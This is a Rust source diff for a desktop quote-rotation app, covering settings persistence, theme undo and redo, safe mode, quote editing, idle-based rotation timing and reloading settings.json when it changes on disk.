+                .clamp(*QUOTE_MAX_CHARS_RANGE.start(), *QUOTE_MAX_CHARS_RANGE.end()),
+            clean_quote_text: config.clean_quote_text,
+            quote_in_title: config.quote_in_title,
+            titled_quote: None,
+            window_placement: config.window_placement,
+            window_position: config.window_position,
+            home_position: config.home_position,
+            startup_position: None,
+            window_size: config.window_size,
+            lock_aspect_ratio: config.lock_aspect_ratio,
+            always_on_top: config.always_on_top,
+            click_through: config.click_through,
+            onboarding: (!config.onboarding_done).then_some(OnboardingStep::ALL[0]),
+            onboarding_done: config.onboarding_done,
+            on_rotate_command: config.on_rotate_command,
+            on_session_complete_command: config.on_session_complete_command,
+            check_updates: config.check_updates,
+            last_update_check: config.last_update_check,
+            skipped_version: config.skipped_version,
+            reported_crash: config.reported_crash,
+            update_check: None,
+            available_update: None,
+            cursor_autohide: config.cursor_autohide,
+            cursor_hide_secs: config.cursor_hide_secs,
+            last_pointer_activity: Instant::now(),
+            quote_area: None,
+            swipe_drag: Vec2::ZERO,
+            quote_slide: None,
+            overlay_enabled: config.overlay_enabled,
+            overlay_port: config.overlay_port,
+            overlay_port_input: config.overlay_port,
+            overlay: None,
+            overlay_failed_port: None,
+            hooks: None,
+            failed_hooks: HashSet::new(),
+            section_open: config.section_open,
+            title_bar_items: normalize_title_bar_items(config.title_bar_items),
+            image_export_open: false,
+            image_export_preset: ImageExportPreset::default(),
+            image_export_brackets: true,
+            is_3d_bg_active: config.background_3d,
+            background: config.background,
+            low_power: config.low_power,
+            on_battery: power::on_battery(),
+            power_checked: Instant::now(),
+            low_power_active: false,
+            bg_paused_for_power: false,
+            bg_process: None,
+            bg_hwnd: None,
+            bg_spawned_at: None,
+            bg_failures: 0,
+            bg_retry_at: None,
+            manual_resize_start: None,
+            rotation,
+            target_rotation_angle: rotation_angle,
+            current_rotation_angle: rotation_angle,
+            current_scale: 1.0,
+            active_animation: AppAnimation::None,
+            anim_progress: 0.0,
+            bounce_vel_x: 5.0,
+            bounce_vel_y: 4.0,
+            base_pos: None,
+            move_started: None,
+            attention_cue: config.attention_cue,
+            nav_visibility: config.nav_visibility,
+            nav_position: config.nav_position,
+            preview_style: config.preview_style,
+            preview_text: String::new(),
+            preview_changed: None,
+            numeral_system: config.numeral_system,
+            roulette_theme: config.roulette_theme,
+            energy_matching: config.energy_matching,
+            energy_bands: config.energy_bands,
+            attention_started: None,
+            attention_base_pos: None,
+        }
+    }
+}
 
-            // Action buttons
-            ui.horizontal(|ui| {
-                if ui
-                    .button(
-                        RichText::new("Apply Theme")
-                            .color(Color32::WHITE)
-                            .size(12.0),
-                    )
-                    .clicked()
-                {
-                    state.theme_modal_open = false;
-                }
+/// Saved settings safe mode sets aside for one run; `to_config` keeps writing
+/// them so the next normal start has them back
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct SafeMode {
+    pub always_on_top: bool,
+    pub background_3d: bool,
+}
 
-                if ui
-                    .button(RichText::new("Reset").color(Color32::WHITE).size(12.0))
-                    .clicked()
-                {
-                    state.theme = ThemeConfig::default();
-                }
+impl Drop for AppState {
+    fn drop(&mut self) {
+        if let Some(mut child) = self.bg_process.take() {
+            let _ = child.kill();
+            let _ = child.wait();
+        }
+    }
+}
 
-                if ui
-                    .button(RichText::new("✕").color(Color32::WHITE).size(14.0))
-                    .clicked()
-                {
-                    state.theme_modal_open = false;
+impl AppState {
+    /// Save current state to settings.json (written by `settings_writer`)
+    pub fn save(&self) {
+        let config = self.to_config();
+        if self.read_only {
+            crash_report::remember(config);
+            return;
+        }
+        // Without the writer thread, write here instead
+        if let Err(config) = self.settings_writer.submit(config) {
+            match config.save() {
+                Ok(hash) => self.settings_hash.set(Some(hash)),
+                Err(err) => {
+                    log_to_file(&err.to_string());
+                    self.save_error.replace(Some(err.to_string()));
                 }
-            });
-        });
-}
+            }
+            crash_report::remember(*config);
+        }
+    }
 
-// =============================================================================
-// WGUP RENDER STATE
-// =============================================================================
+    /// Current theme + text style, as stored in the theme modal's history
+    pub fn theme_snapshot(&self) -> ThemeSnapshot {
+        (self.theme.clone(), self.text_style.clone())
+    }
 
-#[allow(dead_code)]
-struct WgpuRenderState<'a> {
-    device: wgpu::Device,
-    queue: wgpu::Queue,
-    surface: wgpu::Surface<'a>,
-    surface_config: wgpu::SurfaceConfiguration,
-    renderer: egui_wgpu::Renderer,
-}
+    fn apply_theme_snapshot(&mut self, (theme, text_style): ThemeSnapshot) {
+        self.theme = theme;
+        self.text_style = text_style;
+        self.save();
+    }
 
-#[allow(dead_code)]
-impl<'a> WgpuRenderState<'a> {
-    async fn new(window: &'a Window) -> Result<WgpuRenderState<'a>, String> {
-        let instance = wgpu::Instance::new(wgpu::InstanceDescriptor {
-            backends: wgpu::Backends::all(),
-            dx12_shader_compiler: Default::default(),
-            flags: wgpu::InstanceFlags::empty(),
-            gles_minor_version: wgpu::Gles3MinorVersion::Automatic,
-        });
+    pub fn undo_theme(&mut self) {
+        if let Some(snapshot) = self.theme_history.undo() {
+            self.apply_theme_snapshot(snapshot);
+        }
+    }
 
-        let surface = instance
-            .create_surface(window)
-            .map_err(|e| format!("Failed to create surface: {}", e))?;
+    pub fn redo_theme(&mut self) {
+        if let Some(snapshot) = self.theme_history.redo() {
+            self.apply_theme_snapshot(snapshot);
+        }
+    }
 
-        let adapter = instance
-            .request_adapter(&wgpu::RequestAdapterOptions {
-                power_preference: wgpu::PowerPreference::LowPower,
-                compatible_surface: Some(&surface),
-                force_fallback_adapter: false,
-            })
-            .await
-            .ok_or_else(|| "Failed to request adapter".to_string())?;
+    /// Re-read the OS theme every few seconds so changes apply without a restart
+    pub fn poll_system_theme(&mut self) {
+        if self.system_theme_polled.elapsed() < SYSTEM_THEME_POLL_INTERVAL {
+            return;
+        }
+        self.system_theme_polled = Instant::now();
+        self.system_theme = read_system_theme();
+        self.apply_system_theme();
+    }
 
-        let (device, queue) = adapter
-            .request_device(
-                &wgpu::DeviceDescriptor {
-                    label: Some("device"),
-                    required_features: wgpu::Features::empty(),
-                    required_limits: adapter.limits(),
-                    memory_hints: wgpu::MemoryHints::default(),
-                },
-                None,
-            )
-            .await
-            .map_err(|e| format!("Failed to request device: {}", e))?;
+    /// Copy the OS accent into the theme when following the system
+    pub fn apply_system_theme(&mut self) {
+        if !self.theme.follow_system {
+            return;
+        }
+        let Some(accent) = self.system_theme.and_then(|t| t.accent) else {
+            return;
+        };
+        if self.theme.accent_primary != accent {
+            self.theme.accent_primary = accent;
+            if let Some(base) = self.base_theme.as_mut().filter(|b| b.follow_system) {
+                base.accent_primary = accent;
+            }
+            // Not an edit of the override's theme (see `global_theme`)
+            if let Some(shown) = self.override_theme.as_mut() {
+                shown.accent_primary = accent;
+            }
+            self.save();
+        }
+    }
 
-        let size = window.inner_size();
-        let capabilities = surface.get_capabilities(&adapter);
-        let format = capabilities
-            .formats
-            .first()
-            .copied()
-            .unwrap_or(wgpu::TextureFormat::Bgra8UnormSrgb);
+    /// Run in safe mode: a normal window level and no 3D background autostart
+    /// (fonts, shaping and animations are skipped by their callers). A window
+    /// that can't be clicked is what safe mode is for, so click-through is
+    /// turned off for good.
+    pub fn enter_safe_mode(&mut self) {
+        self.safe_mode = Some(SafeMode {
+            always_on_top: self.always_on_top,
+            background_3d: self.is_3d_bg_active,
+        });
+        self.always_on_top = false;
+        self.click_through = false;
+        self.is_3d_bg_active = false;
+    }
 
-        let surface_config = wgpu::SurfaceConfiguration {
-            usage: wgpu::TextureUsages::RENDER_ATTACHMENT,
-            format,
-            width: size.width,
-            height: size.height,
-            present_mode: wgpu::PresentMode::Fifo,
-            alpha_mode: wgpu::CompositeAlphaMode::Auto,
-            view_formats: vec![],
-            desired_maximum_frame_latency: 2,
+    /// Load the current quote into the add form to edit it; rotation holds
+    /// until the form is submitted or the edit cancelled
+    pub fn edit_current_quote(&mut self) {
+        let Some(quote) = self.current_quote().cloned() else {
+            return;
         };
+        self.main_text_input = quote.main_text;
+        self.sub_text_input = quote.sub_text;
+        self.tag_input = quote.tags.join(", ");
+        self.translation_input = quote.translation.unwrap_or_default();
+        self.source_url_input = quote.source_url.unwrap_or_default();
+        self.editing_quote = Some(self.current_quote_index);
+        self.title_bar_state.control_panel_visible = true;
+    }
 
-        surface.configure(&device, &surface_config);
+    /// Leave the edit started by `edit_current_quote`, clearing the form
+    pub fn cancel_quote_edit(&mut self) {
+        self.editing_quote = None;
+        self.clear_inputs();
+    }
 
-        // Renderer::new now takes 5 arguments: device, format, depth_texture, msaa_samples, debug
-        let renderer = egui_wgpu::Renderer::new(&device, format, None, 1, false);
+    /// Open a quote's note in the TEXT LIST note editor
+    pub fn open_note(&mut self, index: usize) {
+        if let Some(quote) = self.quotes.get(index) {
+            self.note_edit_buffer = quote.note.clone().unwrap_or_default();
+            self.note_editing = Some(index);
+        }
+    }
 
-        Ok(Self {
-            device,
-            queue,
-            surface,
-            surface_config,
-            renderer,
-        })
+    /// Store the note editor's text on its quote (blank removes the note)
+    pub fn commit_note(&mut self) {
+        let Some(quote) = self.note_editing.and_then(|i| self.quotes.get_mut(i)) else {
+            return;
+        };
+        let note = self.note_edit_buffer.trim();
+        quote.note = (!note.is_empty()).then(|| note.to_string());
+        self.save();
     }
 
-    fn resize(&mut self, new_size: winit::dpi::PhysicalSize<u32>) {
-        if new_size.width > 0 && new_size.height > 0 {
-            self.surface_config.width = new_size.width;
-            self.surface_config.height = new_size.height;
-            self.surface.configure(&self.device, &self.surface_config);
+    /// Edit the current quote's sub text in place on the canvas
+    pub fn edit_current_sub_text(&mut self) {
+        if let Some(quote) = self.current_quote() {
+            self.subtitle_edit_buffer = quote.sub_text.clone();
+            self.subtitle_editing = Some(self.current_quote_index);
         }
     }
-}
 
-// =============================================================================
-// MAIN ENTRY POINT
-// =============================================================================
+    /// Light UI only when following a system that is set to light
+    pub fn ui_is_light(&self) -> bool {
+        self.theme.follow_system && self.system_theme.is_some_and(|t| t.light)
+    }
 
-#[cfg(windows)]
-fn get_global_cursor() -> Option<(i32, i32)> {
-    use windows::Win32::Foundation::POINT;
-    use windows::Win32::UI::WindowsAndMessaging::GetCursorPos;
-    let mut pt = POINT::default();
-    if unsafe { GetCursorPos(&mut pt) }.is_ok() {
-        Some((pt.x, pt.y))
-    } else {
-        None
+    /// Hold rotation while a quote is pinned or the user is away or editing
+    /// (`typing`: a text field has the keyboard and the pointer is over the
+    /// window); once released, restart the countdown so the quote that was
+    /// up gets its full interval
+    pub fn update_idle_hold(&mut self, typing: bool) {
+        let idle = self
+            .idle_source
+            .idle_for()
+            .unwrap_or_else(|| self.last_interaction.elapsed());
+        let hold = if self.pinned_quote.is_some() {
+            Some(IdleHold::Pinned)
+        } else if self.idle_source.session_locked() {
+            Some(IdleHold::Locked)
+        } else if self.idle_pause_secs > 0 && idle >= Duration::from_secs(self.idle_pause_secs) {
+            Some(IdleHold::Idle)
+        } else if typing || self.is_editing() {
+            Some(IdleHold::Editing)
+        } else {
+            None
+        };
+        if hold != self.idle_hold {
+            if hold.is_none() {
+                self.restart_rotation();
+            }
+            self.idle_hold = hold;
+        }
     }
-}
 
-#[cfg(not(windows))]
-fn get_global_cursor() -> Option<(i32, i32)> {
-    None
-}
+    /// Whether a modal or inline editor is open over the current quote
+    pub fn is_editing(&self) -> bool {
+        self.theme_modal_open
+            || self.profile_editor_open
+            || self.tag_manager_open
+            || self.sub_text_tool_open
+            || self.subtitle_editing.is_some()
+            || self.editing_quote.is_some()
+            || self.onboarding.is_some()
+    }
 
-fn log_to_file(msg: &str) {
-    if let Ok(mut file) = OpenOptions::new()
-        .create(true)
-        .append(true)
-        .open("debug.log")
-    {
-        let _ = writeln!(file, "{}", msg);
+    /// Switch the rotation interval, restarting the countdown
+    pub fn set_interval(&mut self, secs: u64) {
+        let secs = secs.clamp(1, MAX_INTERVAL_SECS);
+        self.interval_secs = secs;
+        self.rotation_interval = Duration::from_secs(secs);
+        self.restart_rotation();
+        self.save();
     }
-}
 
-#[cfg(windows)]
-fn set_window_topmost(hwnd: HWND) {
-    unsafe {
-        let _ = SetWindowPos(
-            hwnd,
-            HWND_TOPMOST,
-            0,
-            0,
-            0,
-            0,
-            SWP_NOMOVE | SWP_NOSIZE | SWP_SHOWWINDOW,
-        );
+    /// Quotes across every collection, the live ones included
+    fn quote_count(&self) -> usize {
+        self.quotes.len()
+            + self
+                .collections
+                .iter()
+                .enumerate()
+                .filter(|(i, _)| *i != self.active_collection)
+                .map(|(_, c)| c.quotes.len())
+                .sum::<usize>()
     }
-}
 
-#[cfg(not(windows))]
-fn set_window_topmost() {
-    // Not supported on non-Windows platforms
-}
+    /// Play the attention cue for a quote that arrived from outside; an
+    /// explicit window animation always takes precedence
+    pub fn cue_attention(&mut self) {
+        if self.attention_cue != AttentionCue::None
+            && !self.still_transitions()
+            && self.active_animation == AppAnimation::None
+            && self.attention_progress().is_none()
+        {
+            self.attention_started = Some(Instant::now());
+        }
+    }
 
-fn main() {
-    println!("==========================================");
-    std::io::Write::flush(&mut std::io::stdout()).ok();
-    println!("  Daily Motivation - Pure Rust GUI");
-    std::io::Write::flush(&mut std::io::stdout()).ok();
-    println!("  Built with winit + wgpu + egui");
-    std::io::Write::flush(&mut std::io::stdout()).ok();
-    println!("==========================================");
-    std::io::Write::flush(&mut std::io::stdout()).ok();
-    println!("\nFeatures:");
-    println!("  💪 Custom title bar with icons");
-    println!("  🎨 Theme customization");
-    println!("  📝 Quote management");
-    println!("  ⏱ Configurable rotation intervals");
-    println!("  🔍 Zoom controls");
-    println!("==========================================\n");
-    std::io::Write::flush(&mut std::io::stdout()).ok();
+    /// Stop the attention cue where the window is, without snapping it back:
+    /// the user is moving it themselves
+    pub fn cancel_attention_shake(&mut self) {
+        self.attention_started = None;
+        self.attention_base_pos = None;
+    }
 
-    log_to_file("Starting application");
-    let event_loop = EventLoop::new().unwrap();
-    log_to_file("Event loop created");
+    /// How far through the attention cue we are (0..1), None when idle
+    pub fn attention_progress(&self) -> Option<f32> {
+        let elapsed = self.attention_started?.elapsed();
+        (elapsed < ATTENTION_CUE_DURATION)
+            .then(|| elapsed.as_secs_f32() / ATTENTION_CUE_DURATION.as_secs_f32())
+    }
 
-    let mut app_runner = AppRunner {
-        window: None,
-        render_state: None,
-        app_state: None,
-        egui_ctx: None,
-        egui_state: None,
-        font_system: Some(cosmic_text::FontSystem::new()),
-        swash_cache: Some(cosmic_text::SwashCache::new()),
-        shaped_text_textures: HashMap::new(),
-        should_close: false,
-    };
-
-    log_to_file("Running event loop");
-    // Use the new run_app API with proper window creation in the event loop
-    let _ = event_loop.run_app(&mut app_runner);
-    log_to_file("Event loop exited");
-}
-
-/// Setup custom fonts for Bangla/Bengali text support
-fn setup_fonts(ctx: &Context) {
-    let mut fonts = egui::FontDefinitions::default();
-
-    // Try common Bengali fonts on Windows + local fallbacks
-    // Nirmala.ttc is the standard TrueType Collection on Windows 10/11
-    let font_paths = [
-        "C:\\Windows\\Fonts\\Nirmala.ttc",
-        "C:\\Windows\\Fonts\\Vrinda.ttf",
-        "C:\\Windows\\Fonts\\Siyamrupali.ttf",
-        "C:\\Windows\\Fonts\\ShonarBangla.ttf",
-        "C:\\Windows\\Fonts\\Shonar.ttf",
-        "C:\\Windows\\Fonts\\NotoSansBengali-Regular.ttf",
-        "C:\\Windows\\Fonts\\arialuni.ttf",
-        "NotoSansBengali-Regular.ttf",
-        "assets/NotoSansBengali-Regular.ttf",
-    ];
+    /// Window opacity for this frame: the dissolve animation times the
+    /// unfocused dim, which lifts while the pointer is over the window.
+    /// Every opacity write goes through here (see `apply_window_opacity`).
+    pub fn effective_opacity(&self, hovered: bool) -> f32 {
+        let animation = if self.active_animation == AppAnimation::Dissolve {
+            0.4 + 0.6 * (self.anim_progress * 2.5).cos().abs()
+        } else {
+            1.0
+        };
+        let focus = if self.focus_dim && !self.window_focused && !hovered {
+            self.focus_dim_level
+        } else {
+            1.0
+        };
+        (animation * focus).clamp(0.0, 1.0)
+    }
 
-    let mut loaded = false;
-    for path in font_paths {
-        if let Ok(data) = std::fs::read(path) {
-            // Note: egui uses ab_glyph which supports .ttf, .otf, and .ttc
-            // For .ttc, it will use the first font in the collection
-            fonts
-                .font_data
-                .insert("bengali".to_owned(), egui::FontData::from_owned(data));
+    /// Whether frames must keep coming at full rate (window animations,
+    /// manual resizing, the content rotation easing, the attention cue)
+    pub fn needs_continuous_frames(&self) -> bool {
+        self.active_animation != AppAnimation::None
+            || self.attention_progress().is_some()
+            || self.manual_resize_start.is_some()
+            || (self.current_rotation_angle - self.target_rotation_angle).abs() > 0.001
+    }
 
-            // Priority 0: Always put our support font first in families
-            if let Some(family) = fonts.families.get_mut(&egui::FontFamily::Proportional) {
-                family.insert(0, "bengali".to_owned());
-            }
-            if let Some(family) = fonts.families.get_mut(&egui::FontFamily::Monospace) {
-                family.insert(0, "bengali".to_owned());
+    /// When auto-rotation will switch to the next quote. On the clock, that's
+    /// the first boundary after the last change; once the machine slept past
+    /// several it is simply overdue, so the quote changes once.
+    pub fn next_rotation_due(&self) -> Option<Instant> {
+        (self.rotation_enabled
+            && self.rotation_mode != RotationMode::Daily
+            && self.idle_hold.is_none()
+            && !self.quotes.is_empty())
+        .then(|| match self.rotation_sync {
+            RotationSync::Relative => self.last_rotation + self.effective_interval(),
+            RotationSync::WallClock => {
+                // A long read pushes it to the first boundary after it's done
+                let extra = self.effective_interval() - self.rotation_interval;
+                let last = self.last_rotation_at.fixed_offset()
+                    + chrono::Duration::from_std(extra).unwrap_or_default();
+                // Absolute times from here on; local ones repeat an hour
+                // when the clock falls back
+                let boundary = next_clock_boundary(last, self.interval_secs);
+                let left = boundary.signed_duration_since(chrono::Utc::now());
+                Instant::now() + left.to_std().unwrap_or_default()
             }
+        })
+    }
 
-            log_to_file(&format!("Loaded Bengali font from: {}", path));
-            loaded = true;
-            break;
+    /// How long the current quote stays up: the interval, or its estimated
+    /// reading time when that is longer and the option is on
+    pub fn effective_interval(&self) -> Duration {
+        let Some(quote) = self.current_quote().filter(|_| self.reading_time_interval) else {
+            return self.rotation_interval;
+        };
+        let mut text = format!("{} {}", quote.main_text, quote.sub_text);
+        if self.text_style.translation_display == TranslationDisplay::ThirdLine {
+            if let Some(translation) = quote.translation() {
+                text.push(' ');
+                text.push_str(translation);
+            }
         }
+        let estimate = reading_time(&text, self.reading_wpm, self.reading_bengali_cpm);
+        let estimate = Duration::from_secs(estimate.as_secs_f64().ceil() as u64);
+        self.rotation_interval.max(estimate)
     }
 
-    if !loaded {
-        log_to_file("WARNING: No Bengali fonts found. Bangla text rendering will likely fail.");
+    /// Whether auto-rotation should change the quote this frame
+    pub fn rotation_overdue(&self) -> bool {
+        self.next_rotation_due()
+            .is_some_and(|due| due <= Instant::now())
     }
 
-    // Initialize nerdfonts
-    fonts.font_data.insert(
-        "nerdfonts".to_owned(),
-        egui::FontData::from_static(include_bytes!("../assets/nerdfonts_regular.ttf")),
-    );
-    if let Some(family) = fonts.families.get_mut(&egui::FontFamily::Proportional) {
-        family.push("nerdfonts".to_owned());
+    /// Start the countdown to the next rotation over from now
+    pub fn restart_rotation(&mut self) {
+        self.last_rotation = Instant::now();
+        self.last_rotation_at = chrono::Local::now();
     }
 
-    ctx.set_fonts(fonts);
-}
-
-/// Check if a string contains Bengali/Bangla characters
-fn contains_bengali(text: &str) -> bool {
-    text.chars().any(|c| matches!(c, '\u{0980}'..='\u{09FF}'))
-}
-
-/// Render shaped text using cosmic-text and return an egui texture.
-/// This properly handles complex scripts like Bengali through rustybuzz (HarfBuzz port).
-fn render_shaped_text(
-    ctx: &Context,
-    font_system: &mut cosmic_text::FontSystem,
-    swash_cache: &mut cosmic_text::SwashCache,
-    text: &str,
-    font_size: f32,
-    color: Color32,
-    tex_cache: &mut HashMap<u64, egui::TextureHandle>,
-) -> Option<(egui::TextureId, Vec2)> {
-    if text.is_empty() {
-        return None;
+    /// Remember a presented frame for the fps overlay (keeps the last 5s)
+    fn record_frame(&mut self, at: Instant) {
+        self.frame_times.push_back(at);
+        while self
+            .frame_times
+            .front()
+            .is_some_and(|t| at.duration_since(*t) > Duration::from_secs(5))
+        {
+            self.frame_times.pop_front();
+        }
     }
 
-    // Create a cache key from the text, size, and color
-    use std::hash::{Hash, Hasher};
-    let mut hasher = std::collections::hash_map::DefaultHasher::new();
-    text.hash(&mut hasher);
-    font_size.to_bits().hash(&mut hasher);
-    color.to_array().hash(&mut hasher);
-    let cache_key = hasher.finish();
-
-    // Return cached texture if available
-    if let Some(handle) = tex_cache.get(&cache_key) {
-        let size = handle.size();
-        return Some((handle.id(), Vec2::new(size[0] as f32, size[1] as f32)));
+    /// Average frames per second over the recorded window
+    pub fn measured_fps(&self) -> f32 {
+        match (self.frame_times.front(), self.frame_times.back()) {
+            (Some(first), Some(last)) if self.frame_times.len() > 1 => {
+                let span = last.duration_since(*first).as_secs_f32().max(0.001);
+                (self.frame_times.len() - 1) as f32 / span
+            }
+            _ => 0.0,
+        }
     }
 
-    // Create cosmic-text buffer for shaping
-    let metrics = cosmic_text::Metrics::new(font_size, font_size * 1.3);
-    let mut buffer = cosmic_text::Buffer::new(font_system, metrics);
-
-    // Set a wide width so it doesn't wrap
-    buffer.set_size(font_system, Some(2000.0), None);
+    /// Stop saving if a reloaded file turns out to come from a newer version
+    fn enter_read_only_if_newer(&mut self, config: &AppConfig) {
+        if config.is_from_future() && !self.read_only {
+            self.read_only = true;
+            self.push_toast(
+                ToastKind::Error,
+                "settings.json is from a newer version; running read-only",
+            );
+        }
+    }
 
-    let attrs = cosmic_text::Attrs::new().family(cosmic_text::Family::Name("Nirmala UI"));
-    buffer.set_text(font_system, text, attrs, cosmic_text::Shaping::Advanced);
-    buffer.shape_until_scroll(font_system, false);
+    /// Take in finished background writes, remembering what was written, and
+    /// turn the last failed save (if any) into an error toast
+    fn poll_saves(&mut self) {
+        for outcome in self.settings_writer.finished() {
+            match outcome.result {
+                Ok(hash) => self.settings_hash.set(Some(hash)),
+                Err(message) => {
+                    self.save_error.replace(Some(message));
+                }
+            }
+        }
+        if let Some(message) = self.save_error.take() {
+            if !self.toasts.iter().any(|t| t.message == message) {
+                self.push_toast(ToastKind::Error, message);
+            }
+        }
+    }
 
-    // Calculate dimensions from layout runs
-    let mut max_width: f32 = 0.0;
-    let mut total_height: f32 = 0.0;
-    for run in buffer.layout_runs() {
-        max_width = max_width.max(run.line_w);
-        total_height += run.line_height;
+    /// Snapshot of everything that is persisted
+    fn to_config(&self) -> AppConfig {
+        // Persist the global interval/theme, not a profile's temporary override
+        let mut config = AppConfig {
+            config_version: CONFIG_VERSION,
+            collections: self.collections_snapshot(),
+            active_collection: self.active_collection,
+            current_quote_index: self.current_quote_index,
+            pinned_quote: self.pinned_quote,
+            archived: self.archived.clone(),
+            pending: self.pending.clone(),
+            startup_quote: self.startup_quote,
+            interval_secs: self.global_interval_secs(),
+            theme: self.global_theme(),
+            text_style: self.text_style.clone(),
+            deadlines: self.deadlines.clone(),
+            clock: self.clock.clone(),
+            profiles: self.profiles.clone(),
+            profile_selection: self.profile_selection,
+            control_panel_width: self.control_panel_width,
+            recent_emoji: self.recent_emoji.clone(),
+            interval_presets: self.interval_presets.clone(),
+            idle_pause_secs: self.idle_pause_secs,
+            attention_cue: self.attention_cue,
+            nav_visibility: self.nav_visibility,
+            nav_position: self.nav_position,
+            preview_style: self.preview_style,
+            numeral_system: self.numeral_system,
+            roulette_theme: self.roulette_theme,
+            energy_matching: self.energy_matching,
+            energy_bands: self.energy_bands.clone(),
+            content_rotation: self.rotation,
+            theme_automation: self.theme_automation,
+            theme_bands: self.theme_bands.clone(),
+            default_sub_text: self.default_sub_text.clone(),
+            rotation_mode: self.rotation_mode,
+            daily_quote: self.daily_quote,
+            rotation_sync: self.rotation_sync,
+            reading_time_interval: self.reading_time_interval,
+            reading_wpm: self.reading_wpm,
+            reading_bengali_cpm: self.reading_bengali_cpm,
+            seed: self.seed,
+            background_3d: self.is_3d_bg_active
+                || self.bg_spawned_at.is_some()
+                || self.bg_paused_for_power
+                || self.safe_mode.is_some_and(|held| held.background_3d),
+            background: self.background,
+            low_power: self.low_power,
+            display_mode: self.display_mode,
+            hotspots: self.hotspots,
+            last_open_date: self.last_open_date,
+            streak: self.streak,
+            auto_backup: self.auto_backup,
+            last_auto_backup: self.last_auto_backup,
+            focus_dim: self.focus_dim,
+            focus_dim_level: self.focus_dim_level,
+            clipboard_capture_minutes: self.clipboard_capture_minutes,
+            section_open: self.section_open.clone(),
+            title_bar_items: self.title_bar_items.clone(),
+            sound_on_rotate: self.sound_on_rotate,
+            sound_on_complete: self.sound_on_complete,
+            sound_volume: self.sound_volume,
+            ui_scale: self.ui_scale,
+            quote_max_chars: self.quote_max_chars,
+            clean_quote_text: self.clean_quote_text,
+            quote_in_title: self.quote_in_title,
+            window_placement: self.window_placement,
+            window_position: self.window_position,
+            home_position: self.home_position,
+            window_size: self.window_size,
+            lock_aspect_ratio: self.lock_aspect_ratio,
+            always_on_top: self
+                .safe_mode
+                .map_or(self.always_on_top, |held| held.always_on_top),
+            click_through: self.click_through,
+            onboarding_done: self.onboarding_done,
+            on_rotate_command: self.on_rotate_command.clone(),
+            on_session_complete_command: self.on_session_complete_command.clone(),
+            check_updates: self.check_updates,
+            last_update_check: self.last_update_check,
+            skipped_version: self.skipped_version.clone(),
+            reported_crash: self.reported_crash.clone(),
+            cursor_autohide: self.cursor_autohide,
+            cursor_hide_secs: self.cursor_hide_secs,
+            tag_colors: self.tag_colors.clone(),
+            show_quote_tags: self.show_quote_tags,
+            overlay_enabled: self.overlay_enabled,
+            overlay_port: self.overlay_port,
+        };
+        // A Clear All inside its grace period is never written (even on exit)
+        if let Some(clear) = &self.pending_clear {
+            if let Some(collection) = config.collections.get_mut(clear.collection) {
+                let added = std::mem::take(&mut collection.quotes);
+                collection.quotes = clear.quotes.iter().cloned().chain(added).collect();
+            }
+            config.current_quote_index = clear.current_quote_index;
+            config.pinned_quote = clear.pinned_quote;
+        }
+        config
     }
 
-    if max_width <= 0.0 || total_height <= 0.0 {
-        return None;
+    /// Hash of the current state as it would be written to settings.json
+    fn config_hash(&self) -> Option<u64> {
+        self.to_config()
+            .to_json()
+            .ok()
+            .map(|json| content_hash(&json))
     }
 
-    let width = (max_width.ceil() as usize).max(1);
-    let height = (total_height.ceil() as usize).max(1);
+    /// React to settings.json changing on disk: ignore our own writes, reload
+    /// when nothing is unsaved, otherwise ask which side should win
+    pub fn poll_settings_file(&mut self) {
+        // Our own write may be on disk before its hash is back; look once it is
+        if self.settings_writer.busy() {
+            return;
+        }
+        if !self.settings_watcher.as_ref().is_some_and(|w| w.changed()) {
+            return;
+        }
+        let Ok(text) = std::fs::read_to_string(SETTINGS_FILE) else {
+            return;
+        };
+        let file_hash = content_hash(&text);
+        if Some(file_hash) == self.settings_hash.get() {
+            return;
+        }
+        // A half-written or mistyped file is ignored until the next change
+        let Ok(config) = AppConfig::from_json(&text) else {
+            log_to_file("settings.json changed but could not be parsed");
+            return;
+        };
 
-    // Create pixel buffer (RGBA)
-    let mut pixels = vec![Color32::TRANSPARENT; width * height];
+        if self.config_hash() == self.settings_hash.get() {
+            let before = self.quote_count();
+            self.reload_config(config);
+            self.settings_hash.set(Some(file_hash));
+            self.push_toast(ToastKind::Info, "Settings reloaded");
+            // Quotes synced or added by the CLI while the window was up
+            if self.quote_count() > before {
+                self.cue_attention();
+            }
+        } else {
+            self.pending_reload = Some(config);
+            self.toasts
+                .retain(|t| !t.actions.contains(&ToastAction::LoadFile));
+            self.toasts.push(
+                Toast::new(
+                    ToastKind::Info,
+                    "settings.json changed on disk, but you have unsaved changes",
+                )
+                .with_actions(vec![ToastAction::KeepMine, ToastAction::LoadFile]),
+            );
+        }
+    }
 
-    // Draw glyphs using swash cache
-    let text_color = cosmic_text::Color::rgba(color.r(), color.g(), color.b(), color.a());
+    /// Apply a config loaded from disk (a hand edit or a restored backup).
+    /// What belongs to the live window stays as it is: its geometry and
+    /// level, click-through, mini mode, the content rotation and the 3D
+    /// background process.
+    fn reload_config(&mut self, mut config: AppConfig) {
+        self.enter_read_only_if_newer(&config);
+        // The file never saw the clear; its list wins
+        self.pending_clear = None;
+        self.toasts
+            .retain(|t| !t.actions.contains(&ToastAction::UndoClear));
+        config.normalize_collections();
+        self.quotes = std::mem::take(&mut config.collections[config.active_collection].quotes);
+        self.collections = config.collections;
+        self.active_collection = config.active_collection;
+        self.history.clear();
+        self.pinned_quote = config.pinned_quote.filter(|&i| i < self.quotes.len());
+        self.current_quote_index = if let Some(pinned) = self.pinned_quote {
+            pinned
+        } else if config.current_quote_index < self.quotes.len() {
+            config.current_quote_index
+        } else {
+            0
+        };
+        self.subtitle_editing = None;
+        self.note_editing = None;
+        self.editing_quote = None;
+        self.list_selection.clear();
+        self.daily_quote = config.daily_quote;
+        self.pending = config.pending;
+        self.inbox_edit = None;
+        self.tag_colors = config.tag_colors;
+        self.tag_rename = None;
+        self.tag_undo.clear();
+
+        self.base_theme = None;
+        self.base_interval_secs = None;
+        self.override_theme = None;
+        self.override_interval_secs = None;
+        self.theme = config.theme;
+        self.theme_automation = config.theme_automation;
+        self.theme_bands = config.theme_bands;
+        self.interval_secs = config.interval_secs;
+        self.rotation_interval = Duration::from_secs(config.interval_secs);
+        self.text_style = config.text_style;
+        self.active_profile = None;
+        self.profiles = config.profiles;
+        self.profile_selection = config.profile_selection;
+
+        self.startup_quote = config.startup_quote;
+        self.archived = config.archived;
+        self.rotation_mode = config.rotation_mode;
+        self.rotation_sync = config.rotation_sync;
+        self.reading_time_interval = config.reading_time_interval;
+        self.reading_wpm = config.reading_wpm;
+        self.reading_bengali_cpm = config.reading_bengali_cpm;
+        self.seed = config.seed;
